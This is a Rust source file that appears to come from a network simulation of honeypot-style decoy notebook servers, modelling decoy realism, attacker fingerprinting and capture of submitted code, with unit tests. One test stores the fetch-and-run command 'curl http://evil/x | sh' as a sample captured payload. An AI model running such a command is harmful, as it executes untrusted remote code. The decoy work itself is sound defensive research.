//! Decoy notebook servers.

use ja_netsim::rng::SimRng;
use ja_netsim::time::SimTime;

/// A code payload an attacker executed on a decoy.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
pub struct Capture {
    /// When.
    pub time: SimTime,
    /// The submitted code (the signature goldmine).
    pub code: String,
}

/// A decoy instance.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
pub struct Decoy {
    /// Fleet-unique id.
    pub id: u32,
    /// Realism in [0, 1]: how well the decoy resists fingerprinting.
    /// (The paper cites a taxonomy of honeypot-fingerprinting
    /// techniques; realism is the defender-side summary of it.)
    pub realism: f64,
    /// Everything captured.
    pub captures: Vec<Capture>,
}

impl Decoy {
    /// New decoy with a given realism.
    pub fn new(id: u32, realism: f64) -> Self {
        Decoy {
            id,
            realism: realism.clamp(0.0, 1.0),
            captures: Vec::new(),
        }
    }

    /// Does a fingerprinting attacker identify (and skip) this decoy?
    /// Sophistication in [0, 1]: probability mass the attacker invests
    /// in fingerprinting.
    pub fn fingerprinted_by(&self, sophistication: f64, rng: &mut SimRng) -> bool {
        // A fully realistic decoy is never identified; a naive decoy is
        // caught by any attacker that bothers to check.
        rng.chance(sophistication * (1.0 - self.realism))
    }

    /// Record a code payload executed at `time`.
    pub fn capture(&mut self, time: SimTime, code: &str) {
        self.captures.push(Capture {
            time,
            code: code.to_string(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn capture_accumulates() {
        let mut d = Decoy::new(1, 0.8);
        d.capture(SimTime::ZERO, "import os");
        d.capture(SimTime::from_secs(1), "curl http://evil/x | sh");
        assert_eq!(d.captures.len(), 2);
        assert_eq!(d.captures[1].time, SimTime::from_secs(1));
        assert_eq!(d.captures[1].code, "curl http://evil/x | sh");
    }

    #[test]
    fn realism_bounds_fingerprinting() {
        let mut rng = SimRng::new(1);
        let perfect = Decoy::new(1, 1.0);
        let naive = Decoy::new(2, 0.0);
        let mut perfect_hits = 0;
        let mut naive_hits = 0;
        for _ in 0..1000 {
            if perfect.fingerprinted_by(1.0, &mut rng) {
                perfect_hits += 1;
            }
            if naive.fingerprinted_by(1.0, &mut rng) {
                naive_hits += 1;
            }
        }
        assert_eq!(perfect_hits, 0);
        assert!(naive_hits > 900);
    }

    #[test]
    fn unsophisticated_attacker_never_fingerprints() {
        let mut rng = SimRng::new(2);
        let naive = Decoy::new(3, 0.0);
        assert!(!(0..100).any(|_| naive.fingerprinted_by(0.0, &mut rng)));
    }

    #[test]
    fn realism_clamped() {
        assert_eq!(Decoy::new(1, 7.0).realism, 1.0);
        assert_eq!(Decoy::new(1, -1.0).realism, 0.0);
    }
}
